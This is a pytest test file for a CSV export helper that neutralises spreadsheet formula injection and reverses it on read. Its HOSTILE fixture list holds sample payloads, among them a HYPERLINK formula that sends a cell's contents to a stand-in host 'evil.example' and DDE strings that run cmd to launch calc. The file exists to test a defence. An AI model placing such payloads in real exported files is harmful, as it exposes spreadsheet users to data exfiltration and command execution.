"""The one helper for human-facing CSV files: OWASP formula-injection neutralisation, reversible."""

from __future__ import annotations

import csv

import pandas as pd
import pytest

from crmbridge.csvout import DANGEROUS, Writer, neutralise, read_frame, restore, write_frame

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', "+8613812345678", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted", "''", "'", "'plain",
           '普通,"文字"', "a,=1+1", "x\n=1+1", "", "公司"]


@pytest.mark.parametrize("value", HOSTILE)
def test_neutralise_then_restore_is_the_identity(value):
    safe = neutralise(value)
    assert restore(safe) == value
    if value and value[0] in DANGEROUS:
        assert safe == "'" + value


def test_non_text_cells_are_left_alone():
    assert neutralise(None) is None and neutralise(-5) == -5 and neutralise(1.5) == 1.5


def _cells(path):
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    return rows


def assert_inert(path):
    """No cell of ``path`` starts with a character a spreadsheet runs as a formula, and every cell is quoted."""
    text = open(path, encoding="utf-8-sig", newline="").read()
    for row in _cells(path):
        for cell in row:
            assert not cell or cell[0] not in DANGEROUS, (path, cell)
    first = text.splitlines()[0]
    assert first.startswith('"'), first


def test_write_frame_is_inert_and_read_frame_gives_the_originals(tmp_path):
    df = pd.DataFrame({"value": HOSTILE, "n": range(len(HOSTILE))})
    p = write_frame(df, tmp_path / "sub" / "q.csv")
    assert p.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: Excel detects UTF-8
    assert_inert(p)
    back = read_frame(p)
    assert back["value"].tolist() == HOSTILE and back["n"].tolist() == [str(i) for i in range(len(HOSTILE))]


def test_streaming_writer_is_inert(tmp_path):
    w = Writer(tmp_path / "r.csv", ["_line", "_reason", "_raw"])
    for i, v in enumerate(HOSTILE):
        w.writerow([i, "too_many_fields", v])
    w.writerow([99, "x", None])
    w.close()
    assert_inert(tmp_path / "r.csv")
    assert read_frame(tmp_path / "r.csv")["_raw"].tolist() == HOSTILE + [""]
